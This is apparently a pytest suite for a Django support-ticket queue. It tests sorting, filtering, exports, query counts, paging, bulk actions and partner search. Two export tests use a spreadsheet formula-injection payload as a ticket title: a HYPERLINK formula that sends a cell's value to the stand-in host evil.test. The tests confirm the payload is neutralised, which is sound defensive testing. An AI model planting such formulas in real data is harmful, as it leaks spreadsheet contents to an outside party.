import csv
import io
from datetime import UTC, timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from support.insight.quarter import refresh_quarter_figures
from tests.factories import copy_ticket, file_ticket

pytestmark = pytest.mark.django_db


def test_the_queue_lists_open_tickets_by_next_deadline(client, plan, partner, partner_member, support_l1):
    now = timezone.now()
    later = file_ticket(partner, partner_member, title="Low: avatar upload", severity="P4", at=now)
    sooner = file_ticket(partner, partner_member, title="Critical: checkout down", severity="P1", at=now)
    done = file_ticket(partner, partner_member, title="Old question", severity="P4", at=now - timedelta(days=3))
    from support.tickets import lifecycle

    lifecycle.transition_ticket(done, action="resolve", by=support_l1)
    client.force_login(support_l1)
    page = client.get(reverse("queue")).content.decode()
    assert page.index("Critical: checkout down") < page.index("Low: avatar upload")
    assert "Old question" not in page
    assert later.pk and sooner.pk


def test_a_queue_row_shows_the_ticket_as_an_agent_reads_it(client, plan, partner, partner_member, support_l1):
    ticket = file_ticket(partner, partner_member, title="Checkout <b>500</b>", severity="P1")
    ticket.assignee = support_l1
    ticket.save(update_fields=["assignee"])
    support_l1.full_name = "Dana Agent"
    support_l1.save(update_fields=["full_name"])
    client.force_login(support_l1)
    page = client.get(reverse("queue")).content.decode()
    row = page[page.index(f'<td><a href="/tickets/{ticket.pk}/">') : page.index("</tr>", page.index("<tbody"))]
    assert '<span class="sev sev-P1">P1' in row  # the class the severity colours are keyed on
    assert "Checkout &lt;b&gt;500&lt;/b&gt;" in row  # what the partner typed is text, not markup
    assert "Dana Agent" in row and support_l1.email not in row  # people by name
    assert 'aria-label="Acknowledge #' in row and 'name="csrfmiddlewaretoken"' in row
    due = ticket.next_due_at.astimezone(UTC)
    assert f'datetime="{ticket.next_due_at.isoformat()}">{due.day} {due:%b %H:%M} UTC</time>' in row  # UTC without JS


def test_an_empty_queue_says_so(client, plan, support_l1):
    client.force_login(support_l1)
    assert "No tickets match these filters." in client.get(reverse("queue")).content.decode()


def test_paused_tickets_come_last_in_the_queue(client, plan, partner, partner_member, support_l1):
    from support.tickets import lifecycle

    paused = file_ticket(partner, partner_member, title="Waiting for logs", severity="P1")
    lifecycle.transition_ticket(paused, action="acknowledge", by=support_l1)
    lifecycle.transition_ticket(paused, action="wait", by=support_l1)
    file_ticket(partner, partner_member, title="Slow question", severity="P4")
    client.force_login(support_l1)
    page = client.get(reverse("queue")).content.decode()
    assert page.index("Slow question") < page.index("Waiting for logs")
    assert "Paused" in page


def test_the_queue_filters_by_severity_and_sla_state(client, plan, partner, partner_member, support_l1):
    now = timezone.now()
    file_ticket(partner, partner_member, title="Breached one", severity="P1", at=now - timedelta(hours=1))
    file_ticket(partner, partner_member, title="Fresh one", severity="P3", at=now)
    client.force_login(support_l1)
    page = client.get(reverse("queue"), {"sla_state": "breached"}).content.decode()
    assert "Breached one" in page and "Fresh one" not in page
    page = client.get(reverse("queue"), {"severity": ["P3"]}).content.decode()
    assert "Fresh one" in page and "Breached one" not in page


def test_the_queue_finds_a_partner_by_part_of_its_name(
    client, plan, partner, partner_member, other_partner, support_l1
):
    file_ticket(partner, partner_member, title="Northwind's")
    file_ticket(other_partner.partner, other_partner, title="Contoso's")
    client.force_login(support_l1)
    page = client.get(reverse("queue"), {"partner_name": "northw"}).content.decode()
    assert "Northwind&#x27;s" in page and "Contoso&#x27;s" not in page
    assert '<select name="partner"' not in page  # no list of every partner in the page


def test_a_bad_filter_answers_400_with_the_error(client, plan, support_l1):
    client.force_login(support_l1)
    response = client.get(reverse("queue"), {"severity": "P9"})
    assert response.status_code == 400
    assert "Select a valid choice" in response.content.decode()


def test_the_queue_exports_csv(client, plan, partner, partner_member, support_l1):
    file_ticket(partner, partner_member, title="Exported ticket")
    client.force_login(support_l1)
    response = client.get(reverse("queue"), {"_export": "csv"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][:3] == ["#", "Severity", "Title"]
    assert rows[1][2] == "Exported ticket"


def test_the_csv_export_has_plain_values_and_no_formulas(client, plan, partner, partner_member, support_l1):
    file_ticket(partner, partner_member, title='=HYPERLINK("http://evil.test/?"&A1,"Click")')
    client.force_login(support_l1)
    rows = list(csv.reader(io.StringIO(client.get(reverse("queue"), {"_export": "csv"}).content.decode())))
    assert rows[1][1] == "P2"
    assert rows[1][2] == '\'=HYPERLINK("http://evil.test/?"&A1,"Click")'
    assert "<" not in "".join(rows[1])


def test_json_and_yaml_exports_keep_typed_text_exactly(client, plan, partner, partner_member, support_l1):
    import json

    import yaml

    title = '=HYPERLINK("http://evil.test/?"&A1,"Click")'
    file_ticket(partner, partner_member, title=title)
    client.force_login(support_l1)
    as_json = json.loads(client.get(reverse("queue"), {"_export": "json"}).content)
    assert as_json[0]["Title"] == title
    as_yaml = yaml.safe_load(client.get(reverse("queue"), {"_export": "yaml"}).content)
    assert as_yaml[0]["Title"] == title


@pytest.mark.parametrize("export", ["xlsx", "ods", "xls", "latex", "pdf", "csv;"])
def test_an_export_format_the_queue_does_not_offer_is_refused(client, plan, support_l1, export):
    client.force_login(support_l1)
    response = client.get(reverse("queue"), {"_export": export})
    assert response.status_code == 400
    assert "The queue exports as csv, tsv, json, yaml." in response.content.decode()


def test_the_queue_colours_rows_by_sla_state(client, plan, partner, partner_member, support_l1):
    file_ticket(partner, partner_member, title="Breached one", severity="P1", at=timezone.now() - timedelta(hours=1))
    client.force_login(support_l1)
    assert 'data-sla="breached"' in client.get(reverse("queue")).content.decode()


# Exact counts, the same at 10 and at 1,000 tickets: session, user, groups, the second factor (staff:
# the device the session passed; partners: whether they turned it on), then the page's own. The
# queue's partner filter is a name to search, not a list of every partner.
QUEUE_QUERIES = 8
TICKET_LIST_QUERIES = 7  # + the page of tickets (no COUNT) and the stored "your support this quarter" row


def _many(partner, submitter, count):
    # Copies of one real ticket: the query count must not depend on how many rows exist.
    copy_ticket(file_ticket(partner, submitter, title="Template"), count - 1)


@pytest.mark.parametrize("count", [10, 1000])
def test_the_queue_runs_the_same_number_of_queries_at_any_size(
    client, plan, partner, partner_member, support_l1, count, django_assert_num_queries
):
    _many(partner, partner_member, count)
    client.force_login(support_l1)
    with django_assert_num_queries(QUEUE_QUERIES):
        assert client.get(reverse("queue")).status_code == 200


@pytest.mark.parametrize("count", [10, 1000])
def test_the_ticket_list_runs_the_same_number_of_queries_at_any_size(
    client, plan, partner, partner_member, count, django_assert_num_queries
):
    _many(partner, partner_member, count)
    refresh_quarter_figures()
    client.force_login(partner_member)
    with django_assert_num_queries(TICKET_LIST_QUERIES):
        assert client.get(reverse("ticket_list")).status_code == 200


def test_the_ticket_list_pages_without_counting_every_ticket(client, plan, partner, partner_member):
    _many(partner, partner_member, 30)
    client.force_login(partner_member)
    first = client.get(reverse("ticket_list")).content.decode()
    assert "Page 1" in first and "?page=2" in first and "Page 1 of" not in first
    second = client.get(reverse("ticket_list"), {"page": "2"}).content.decode()
    assert "Page 2" in second and "?page=1" in second and "?page=3" not in second
    for beyond in ("99", "x", "-1"):
        assert "Page 1" in client.get(reverse("ticket_list"), {"page": beyond}).content.decode()


@pytest.mark.parametrize("params", [{"per_page": "-3"}, {"page": "4611686018427387904"}, {"status": "bogus"}])
def test_bad_paging_or_filters_answer_400_with_no_rows(client, plan, partner, partner_member, support_l1, params):
    file_ticket(partner, partner_member, title="Should not show")
    client.force_login(support_l1)
    response = client.get(reverse("queue"), params)
    assert response.status_code == 400
    assert "Should not show" not in response.content.decode()


def test_a_ticket_answered_late_counts_as_breached_in_the_filter(client, plan, partner, partner_member, support_l1):
    from support.tickets import lifecycle

    late = file_ticket(partner, partner_member, title="Answered late", at=timezone.now() - timedelta(minutes=90))
    lifecycle.transition_ticket(late, action="acknowledge", by=support_l1)
    client.force_login(support_l1)
    assert "Answered late" in client.get(reverse("queue"), {"sla_state": "breached"}).content.decode()
    assert "Answered late" not in client.get(reverse("queue"), {"sla_state": "ok"}).content.decode()


def _titles(client, **params):
    return client.get(reverse("queue"), params).content.decode()


def test_saved_views_show_an_agents_working_sets(
    client, plan, partner, partner_member, support_l1, support_l2, time_machine
):
    from support.models import Escalation

    now = timezone.now()
    time_machine.move_to(now, tick=False)
    mine = file_ticket(partner, partner_member, title="Mine to do", severity="P4")
    theirs = file_ticket(partner, partner_member, title="Someone else's", severity="P4")
    nobody = file_ticket(partner, partner_member, title="Nobody's yet", severity="P4")
    soon = file_ticket(partner, partner_member, title="Due within the hour", severity="P4")
    Ticket = type(mine)
    Ticket.objects.filter(pk=mine.pk).update(assignee=support_l1, next_due_at=now + timedelta(days=2))
    Ticket.objects.filter(pk=theirs.pk).update(assignee=support_l2, next_due_at=now + timedelta(days=2))
    Ticket.objects.filter(pk=nobody.pk).update(next_due_at=now + timedelta(days=2))
    Ticket.objects.filter(pk=soon.pk).update(assignee=support_l2, next_due_at=now + timedelta(minutes=40))
    Escalation.objects.create(ticket=theirs, level=2, level_name="L2", cause="manual", reason="Stuck", at=now,
                              assignee=support_l1, routed_via="test")  # fmt: skip
    client.force_login(support_l1)
    page = _titles(client, view="mine")
    assert "Mine to do" in page and "Someone else&#x27;s" not in page and "Nobody&#x27;s yet" not in page
    page = _titles(client, view="unassigned")
    assert "Nobody&#x27;s yet" in page and "Mine to do" not in page
    page = _titles(client, view="breaching")
    assert "Due within the hour" in page and "Mine to do" not in page
    page = _titles(client, view="escalated")
    assert "Someone else&#x27;s" in page and "Mine to do" not in page
    assert 'aria-current="page">Escalated to me</a>' in page
    response = client.get(reverse("queue"), {"view": "everything"})
    assert response.status_code == 400 and "Select a valid choice" in response.content.decode()


def test_the_queue_searches_by_number_title_and_partner(client, plan, partner, partner_member, support_l1):
    checkout = file_ticket(partner, partner_member, title="Checkout returns 500")
    file_ticket(partner, partner_member, title="Avatar upload fails")
    client.force_login(support_l1)
    assert "Avatar upload" not in _titles(client, q="checkout") and "Checkout returns 500" in _titles(
        client, q="checkout"
    )
    by_number = _titles(client, q=f"#{checkout.pk}")
    assert "Checkout returns 500" in by_number and "Avatar upload" not in by_number
    assert "Avatar upload" in _titles(client, q=partner.name[:5])
    assert "No tickets match these filters." in _titles(client, q="nothing like this")


def test_bulk_acknowledge_changes_the_ticked_tickets_and_says_which_could_not(
    client, plan, partner, partner_member, support_l1
):
    from support.tickets import lifecycle

    first = file_ticket(partner, partner_member, title="First")
    second = file_ticket(partner, partner_member, title="Second")
    done = file_ticket(partner, partner_member, title="Already acknowledged")
    lifecycle.transition_ticket(done, action="acknowledge", by=support_l1)
    client.force_login(support_l1)
    response = client.post(
        reverse("queue_bulk") + "?severity=P2",
        {"action": "acknowledge", "tickets": [first.pk, second.pk, done.pk]},
        follow=True,
    )
    assert response.redirect_chain[-1][0] == reverse("queue") + "?severity=P2"  # back to the same view
    page = response.content.decode()
    assert f"2 ticket(s) acknowledged: #{first.pk}, #{second.pk}." in page
    assert f"Not changed: #{done.pk}:" in page
    first.refresh_from_db(), second.refresh_from_db()
    assert first.status == second.status == "acknowledged"


def test_bulk_assign_gives_the_tickets_to_the_agent(client, plan, partner, partner_member, support_l1):
    tickets = [file_ticket(partner, partner_member, title=f"Ticket {n}") for n in range(3)]
    client.force_login(support_l1)
    client.post(reverse("queue_bulk"), {"action": "assign_to_me", "tickets": [t.pk for t in tickets]})
    assert {type(t).objects.get(pk=t.pk).assignee_id for t in tickets} == {support_l1.pk}
    page = client.get(reverse("queue"), {"view": "mine"}).content.decode()
    assert all(f"Ticket {n}" in page for n in range(3))


@pytest.mark.parametrize(
    ("data", "message"),
    [
        ({"action": "acknowledge"}, "Tick at least one ticket first."),
        ({"tickets": ["TICKET"]}, "Choose what to do with the ticked tickets."),
        ({"action": "delete", "TICKET": ""}, "Select a valid choice. delete is not one of the available choices."),
        ({"action": "acknowledge", "tickets": ["999999"]}, "Ticket 999999 is not an open ticket of the queue."),
        ({"action": "acknowledge", "tickets": ["abc"]}, "“abc” is not a ticket number."),
    ],
)
def test_a_bad_bulk_action_changes_nothing_and_says_why(
    client, plan, partner, partner_member, support_l1, data, message
):
    ticket = file_ticket(partner, partner_member, title="Untouched")
    data = {key: ([str(ticket.pk)] if value == ["TICKET"] else value) for key, value in data.items() if key != "TICKET"}
    if "tickets" not in data and "action" in data and data["action"] == "delete":
        data["tickets"] = [str(ticket.pk)]
    client.force_login(support_l1)
    response = client.post(reverse("queue_bulk"), data)
    assert response.status_code == 400
    assert message in response.content.decode()
    ticket.refresh_from_db()
    assert ticket.status == "received" and ticket.assignee_id is None


def test_a_closed_ticket_cannot_be_acted_on_in_bulk(client, plan, partner, partner_member, support_l1):
    from support.tickets import lifecycle

    ticket = file_ticket(partner, partner_member, title="Done")
    lifecycle.transition_ticket(ticket, action="resolve", by=support_l1)
    client.force_login(support_l1)
    response = client.post(reverse("queue_bulk"), {"action": "assign_to_me", "tickets": [ticket.pk]})
    assert response.status_code == 400
    assert f"Ticket {ticket.pk} is not an open ticket of the queue." in response.content.decode()


def test_partners_find_their_tickets_by_number_title_status_and_severity(
    client, plan, partner, partner_member, other_partner, support_l1
):
    from support.tickets import lifecycle

    checkout = file_ticket(partner, partner_member, title="Checkout returns 500", severity="P1")
    avatar = file_ticket(partner, partner_member, title="Avatar upload fails", severity="P4")
    lifecycle.transition_ticket(avatar, action="resolve", by=support_l1)
    client.force_login(partner_member)

    def listed(**params):
        response = client.get(reverse("ticket_list"), params)
        return response.status_code, response.content.decode()

    _, page = listed(q="checkout")
    assert "Checkout returns 500" in page and "Avatar upload fails" not in page
    _, page = listed(q=f"#{avatar.pk}")
    assert "Avatar upload fails" in page and "Checkout returns 500" not in page
    _, page = listed(status="finished")
    assert "Avatar upload fails" in page and "Checkout returns 500" not in page
    _, page = listed(status="open", severity="P1")
    assert "Checkout returns 500" in page
    _, page = listed(q="nothing like this")
    assert "No tickets match." in page and "No tickets yet" not in page
    status, page = listed(severity="P9")
    assert status == 400 and "Select a valid choice" in page and "Checkout returns 500" not in page
    client.force_login(other_partner)  # another partner's search finds nothing of ours
    _, page = listed(q=str(checkout.pk))
    assert "Checkout returns 500" not in page


def test_the_partner_list_pages_keep_the_search(client, plan, partner, partner_member):
    template = file_ticket(partner, partner_member, title="Printer offline")
    copy_ticket(template, 30)
    client.force_login(partner_member)
    page = client.get(reverse("ticket_list"), {"q": "printer"}).content.decode()
    assert 'href="?q=printer&amp;page=2"' in page
